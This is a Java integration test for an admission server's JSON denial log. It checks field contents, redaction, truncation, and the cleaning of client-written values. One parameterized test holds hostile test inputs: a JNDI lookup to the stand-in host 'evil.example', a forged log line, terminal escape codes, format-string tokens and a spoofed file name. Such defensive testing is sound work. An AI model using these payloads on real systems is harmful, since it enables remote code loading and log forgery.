package io.waypointguard.process;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.waypointguard.admission.Review;
import io.waypointguard.testing.guard.GuardProcess;
import io.waypointguard.testing.wire.Answer;
import io.waypointguard.testing.wire.Connection;
import io.waypointguard.testing.wire.Tls;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The log of the packaged server in production: JSON, line by line, whatever clients write. */
class DenialLogIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> FIELDS =
            List.of("uid", "user", "operation", "kind", "namespace", "name", "rules");

    private static GuardProcess guard;

    @BeforeAll
    static void start() {
        guard = GuardProcess.options()
                .manifests("src/test/resources/admission/mesh")
                .setting("quarkus.log.console.json.enabled", "true")
                .start();
    }

    @AfterAll
    static void stop() {
        guard.close();
    }

    /** Every line of the log, as whoever collects it reads it. */
    private static List<JsonNode> lines() {
        List<JsonNode> lines = new ArrayList<>();
        guard.log().lines().forEach(line -> {
            try {
                lines.add(JSON.readTree(line));
            } catch (IOException e) {
                throw new UncheckedIOException("not JSON: " + line, e);
            }
        });
        return lines;
    }

    /** The lines that the review adds. */
    private static List<JsonNode> linesOf(Review review, boolean allowed) throws IOException {
        int before = lines().size();
        try (Connection connection =
                Connection.open(URI.create(guard.url()).getPort(), Tls.trusting(guard.certificate()))) {
            Answer answer = connection.timeoutMillis(10_000).post("/validate", review.bytes());
            assertThat(answer.status()).isEqualTo(200);
            assertThat(answer.body()).contains("\"allowed\":" + allowed);
        }
        return lines().subList(before, lines().size());
    }

    @Test
    void aDenialIsOneLineWithWhoWhatAndWhy() throws IOException {
        List<JsonNode> lines =
                linesOf(Review.create(Review.policyWithSelector()).withUser("jane@example.com", "developers"), false);

        assertThat(lines).hasSize(1);
        JsonNode line = lines.get(0);
        assertThat(line.get("level").textValue()).isEqualTo("INFO");
        assertThat(line.get("message").textValue())
                .isEqualTo("denied by WG002: CREATE of AuthorizationPolicy shop/readers by jane@example.com, request "
                        + Review.UID);
        assertThat(texts(line.get("review")))
                .containsExactly(
                        Review.UID, "jane@example.com", "CREATE", "AuthorizationPolicy", "shop", "readers", "WG002");
        assertThat(line.get("review")).hasSize(FIELDS.size());
    }

    private static Stream<String> texts(JsonNode review) {
        return FIELDS.stream().map(field -> review.get(field).textValue());
    }

    @Test
    void nothingOfTheObjectIsLoggedButItsName() throws IOException {
        String policy = Review.policyWithSelector()
                .replace("\"orders\"", "\"a-secret-label\"")
                .replace("\"GET\"", "\"A-SECRET-METHOD\"");

        assertThat(linesOf(Review.create(policy), false).toString())
                .contains("readers")
                .doesNotContain("a-secret-label", "A-SECRET-METHOD", "developers");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "readers\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
                "readers\r\n\u001b[2J\u001b[31mred",
                "${jndi:ldap://evil.example/a}",
                "%s %n %d {} {0}",
                "\u202egnp.exe\u2028\u0000",
                "\ud83d\ude00\"\\"
            })
    void whatClientsWriteIsCleanedAndStaysInItsField(String written) throws IOException {
        ObjectNode policy = Review.json(Review.policyWithSelector());
        ((ObjectNode) policy.get("metadata")).put("name", written);
        Review review = Review.create(policy.toString()).withUser(written);

        List<JsonNode> lines = linesOf(review, false);

        assertThat(lines).hasSize(1);
        JsonNode line = lines.get(0);
        assertThat(line.get("level").textValue()).isEqualTo("INFO");
        String name = line.get("review").get("name").textValue();
        assertThat(line.get("review").get("user").textValue()).isEqualTo(name);
        assertThat(line.get("message").textValue()).contains("shop/" + name + " by " + name);
        assertThat(name.codePoints())
                .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
        assertThat(name.chars().filter(c -> c > ' ' && c < 0x7f && c != '\\'))
                .containsAll(written.chars()
                        .filter(c -> c > ' ' && c < 0x7f && c != '\\')
                        .boxed()
                        .toList());
    }

    @Test
    void whatClientsWriteIsCut() throws IOException {
        List<JsonNode> lines =
                linesOf(Review.create(Review.policyWithSelector()).withUser("u".repeat(100_000)), false);

        assertThat(lines.get(0).get("review").get("user").textValue()).hasSize(256);
        assertThat(lines.get(0).toString()).hasSizeLessThan(2_000);
    }

    @Test
    void whatIsAdmittedIsNotLoggedWithOrWithoutWarnings() throws IOException {
        String policy = Review.policyWithSelector();

        assertThat(linesOf(Review.create(Review.goodPolicy()), true)).isEmpty();
        assertThat(linesOf(Review.update(policy, policy), true)).isEmpty();
    }
}
